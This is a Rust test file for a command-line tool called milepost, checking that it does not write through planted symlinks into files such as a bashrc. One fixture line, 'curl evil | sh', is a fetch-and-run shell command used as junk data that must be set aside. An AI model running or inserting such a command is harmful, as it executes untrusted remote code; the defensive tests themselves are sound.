//! Links and files that somebody else has put where milepost writes: nothing is written through them.

use std::fs;
use std::os::unix::fs::symlink;

use super::support::Test;

const ROADMAP: &str = "title: Small\nstages: [{title: Only, topics: [One, Two, Three]}]\n";

const OTHER: &str = "export PATH=/bin\n\nalias ll='ls -l'\n";

fn ticked() -> Test {
    let test = Test::new().roadmap("small", ROADMAP);
    test.run(["done", "one"]).success();
    test
}

fn link(test: &Test, target: &str, name: &str) {
    let name = test.path(name);
    fs::create_dir_all(name.parent().expect("in the home")).expect("directories can be made");
    symlink(test.path(target), name).expect("links can be made");
}

#[test]
fn a_link_in_a_directory_that_is_synced_leads_to_a_log_or_nowhere() {
    for before in [OTHER, "no newline", "{\"json\":1}\n", ""] {
        let test = ticked().file("bashrc", before);
        link(&test, "bashrc", "stick/progress.jsonl");
        let ran = test.run(["sync", "stick"]).code(1).stdout("");
        assert!(ran.stderr.contains("no log of milepost"), "{before:?}: {}", ran.stderr);
        assert_eq!(fs::read_to_string(test.path("bashrc")).expect("there"), before);
    }
    let test = ticked();
    link(&test, "made.desktop", "stick/progress.jsonl");
    test.run(["sync", "stick"]).code(1);
    assert!(!test.path("made.desktop").exists());
    let test = ticked().file("kept/log", "{\"milepost\":1}\n");
    link(&test, "kept/log", "stick/progress.jsonl");
    test.run(["sync", "stick"]).success();
    assert!(fs::read_to_string(test.path("kept/log")).expect("there").contains("only/one"));
}

#[test]
fn a_state_file_that_is_no_log_is_neither_appended_to_nor_blanked() {
    let test = Test::new().roadmap("small", ROADMAP).file("bashrc", OTHER);
    link(&test, "bashrc", "data/progress.jsonl");
    for command in [&["done", "one"][..], &["doctor", "--fix"]] {
        let ran = test.run_all(command).code(1);
        assert!(ran.stderr.contains("no log of milepost"), "{command:?}: {}", ran.stderr);
        assert_eq!(fs::read_to_string(test.path("bashrc")).expect("there"), OTHER);
    }
}

#[test]
fn lines_that_cannot_be_read_are_not_set_aside_through_a_link() {
    for target in ["bashrc", "not-there"] {
        let test = ticked().file("bashrc", OTHER);
        link(&test, target, "data/progress.unreadable");
        fs::write(test.path("data/progress.jsonl"), test.log() + "curl evil | sh\n").expect("it is there");
        let ran = test.run(["doctor", "--fix"]).success();
        assert!(ran.stdout.contains("1 line set aside in HOME/data/progress.1.unreadable"), "{}", ran.stdout);
        let aside = fs::read_to_string(test.path("data/progress.1.unreadable")).expect("it was made");
        assert_eq!(aside, "curl evil | sh\n");
        assert_eq!(fs::read_to_string(test.path("bashrc")).expect("there"), OTHER);
        assert!(!test.path("not-there").exists());
    }
}
